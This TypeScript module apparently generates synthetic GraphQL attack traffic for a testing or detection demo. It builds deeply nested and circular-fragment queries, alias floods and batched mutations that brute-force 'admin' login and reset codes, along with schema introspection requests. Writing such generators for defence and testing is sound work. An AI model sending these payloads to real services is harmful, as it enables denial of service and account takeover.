import type { Random } from "../../../demo/random.ts";
import type { Draft } from "../../request.ts";
import type { AttackGenerator } from "../attack-generator.ts";
import { plainHeaders, word } from "../frame.ts";

function nested(random: Random): string {
  const [one, other] = [word(random), word(random)];
  const depth = random.between(18, 120);
  let text = "id";
  for (let level = 0; level < depth; level += 1)
    text = `${level % 2 ? one : other}${random.chance(0.1) ? "(first: 100)" : ""} { ${text} }`;
  return `${random.pick(["query ", "", "query Q "])}{ ${text} }`;
}

function aliased(random: Random): string {
  const field = random.pick(["login", "user", "verify", "checkCoupon", "systemUpdate", "node", word(random)]);
  const argument = random.pick(["id", "password", "code", "pin"]);
  const aliases = Array.from(
    { length: random.between(100, 500) },
    (_, at) => `a${at}: ${field}(${argument}: "${random.between(0, 99_999)}") { id }`,
  );
  return `${random.pick(["query", "mutation"])} { ${aliases.join(random.pick([" ", "\n", ", "]))} }`;
}

const INTROSPECTIONS = [
  "{__schema{types{name}}}",
  "query IntrospectionQuery { __schema { queryType { name } mutationType { name } types { ...FullType } directives { name args { ...InputValue } } } } fragment FullType on __Type { kind name fields(includeDeprecated: true) { name } }",
  "query { __schema { types { name fields { name args { name type { name } } } } } }",
  '{__type(name: "User"){name fields{name type{name}}}}',
  "{\n  __schema {\n    directives { name locations }\n    subscriptionType { name }\n  }\n}",
  "fragment F on __Schema { types { name kind } } query { __schema { ...F } }",
  "query{__schema\n{queryType{fields{name}}}}",
];

function directives(random: Random): string {
  const many = random.pick(["@include(if: true)", "@skip(if: false)", "@aa", "@deprecated", "@client"]);
  return `query { ${word(random)} ${many.repeat(random.between(80, 500))} { id } }`;
}

function fields(random: Random): string {
  return `query { ${word(random)} { ${`${random.pick(["id", "__typename", "name"])} `.repeat(random.between(400, 1500))}} }`;
}

function fragments(random: Random): string {
  const count = random.between(2, 30);
  const parts = Array.from(
    { length: count },
    (_, at) => `fragment F${at} on ${word(random)} { ...F${(at + 1) % count} }`,
  );
  return `query { ${word(random)} { ...F0 } } ${parts.join(" ")}`;
}

const SHAPES: Record<string, (random: Random) => string> = {
  "graphql-depth": nested,
  "graphql-aliases": aliased,
  "graphql-introspection": (random) => random.pick(INTROSPECTIONS),
  "graphql-directives": directives,
  "graphql-fields": fields,
  "graphql-fragments": fragments,
};

function write(random: Random, query: string): Draft {
  const headers = plainHeaders(random);
  const path = random.pick(["/graphql", "/api/graphql", "/v1/graphql", "/graphql/", "/query"]);
  if (random.chance(0.2) && query.length < 2000)
    return { method: "GET", path, query: `query=${encodeURIComponent(query)}`, headers, body: "" };
  headers["Content-Type"] = random.chance(0.9) ? "application/json" : "application/graphql";
  const body =
    headers["Content-Type"] === "application/graphql"
      ? query
      : JSON.stringify({ query, variables: random.chance(0.5) ? {} : undefined });
  return { method: "POST", path, query: "", headers, body };
}

function batch(random: Random): Draft {
  const field = random.pick(["login", "verify", "resetPassword", "user"]);
  const operations = Array.from({ length: random.between(60, 300) }, (_, at) => ({
    query: `mutation { ${field}(user: "admin", code: "${1000 + at}") { token } }`,
  }));
  return { ...write(random, ""), method: "POST", query: "", body: JSON.stringify(operations) };
}

/** Operations whose cost or curiosity is the attack. */
export const graphql: AttackGenerator = {
  class: "graphql",
  weight: 3,
  generate: (random) => {
    if (random.chance(0.15)) return { draft: batch(random), place: "graphql-batch" };
    const shape = random.pick(Object.keys(SHAPES));
    return { draft: write(random, SHAPES[shape]!(random)), place: shape };
  },
};
